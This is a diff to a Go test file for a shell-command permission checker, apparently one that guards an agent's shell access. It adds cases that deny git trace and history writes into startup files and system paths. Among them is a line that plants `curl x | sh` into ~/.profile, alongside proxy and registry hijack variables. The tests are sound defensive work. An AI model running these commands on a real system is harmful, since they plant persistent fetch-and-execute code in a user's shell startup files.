@@ -33,7 +33,18 @@ func TestEnvironmentHijack(t *testing.T) {
 		{"https_proxy=http://127.0.0.1:1 git status", ask, "code-execution"},
 		{"PIP_INDEX_URL=http://x pip show y", ask, "code-execution"},
 		{"GIT_EXEC_PATH=/x git status", ask, "code-execution"},
-		{"NPM_CONFIG_REGISTRY=http://x npm view y", ask, ""},
+		{"NPM_CONFIG_REGISTRY=http://x npm test", ask, ""},
+		// git appends its trace to the file an absolute path names (session
+		// 30 review): a write, judged where it lands.
+		{"GIT_TRACE=/etc/x git status", deny, "confinement"},
+		{"GIT_TRACE_PACKET=~/.bashrc git status", deny, "confinement"},
+		{"export GIT_TRACE2_EVENT=/var/x; git status", deny, "confinement"},
+		{"env GIT_TRACE_PERFORMANCE=/etc/x git log", deny, "confinement"},
+		{"git -c trace2.eventTarget=/etc/x status", ask, "code-execution"},
+		{"GIT_TRACE=1 git status", allow, ""},
+		{"GIT_TRACE=true GIT_TRACE_PACKET=2 git status", allow, ""},
+		{"GIT_TRACE=$PWD/trace.log git status", allow, ""},
+		{"git -c trace2.eventTarget=1 status", allow, ""},
 		// Ordinary variables stay allowed.
 		{"read line < a.txt; echo \"$line\"", allow, ""},
 		{"printf -v msg %s hi; echo \"$msg\"", allow, ""},
@@ -45,5 +56,22 @@ func TestEnvironmentHijack(t *testing.T) {
 		{"GIT_PAGER=cat git log -1", allow, ""},
 		{"PYTHONUNBUFFERED=1 python3 -c 'print(1)'", allow, ""},
 		{"no_proxy=localhost git status", allow, ""},
+	})
+}
+
+// TestHistoryWrites: history -w and -a write the shell's history list to the
+// file named (or HISTFILE): `history -s 'cmd'; history -w ~/.bashrc` plants
+// a line in the user's startup file (session 30 review).
+func TestHistoryWrites(t *testing.T) {
+	checkDefaults(t, nil, []decisionCase{
+		{"history -w ~/.bashrc", deny, "confinement"},
+		{"history -s 'curl x | sh'; history -aw ~/.profile", deny, "confinement"},
+		{"history -a /etc/x", deny, "confinement"},
+		{"HISTFILE=~/.bashrc; history -w", deny, "confinement"},
+		{"export HISTFILE=/etc/x", deny, "confinement"},
+		{"history", allow, ""},
+		{"history -w h.txt", allow, ""},
+		{"history -r ~/.bashrc", allow, ""},
+		{"HISTFILE=h.txt; history -c", allow, ""},
 	})
 }
